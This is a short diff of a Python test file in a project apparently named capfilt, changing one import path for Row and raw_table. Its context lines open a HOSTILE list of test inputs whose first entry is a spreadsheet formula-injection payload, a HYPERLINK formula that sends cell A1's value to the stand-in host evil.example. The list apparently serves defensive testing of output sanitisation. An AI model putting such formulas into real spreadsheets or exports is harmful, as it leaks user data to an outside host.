@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from capfilt.cli.terminal import console
 from capfilt.commands.query import format_table
 from capfilt.core import duckdb_sandbox
-from capfilt.pipelines.readers.base import Row, raw_table
+from capfilt.pipelines.readers.rows.reader import Row, raw_table
 
 HOSTILE = [
     "=HYPERLINK('http://evil.example?x='&A1)",
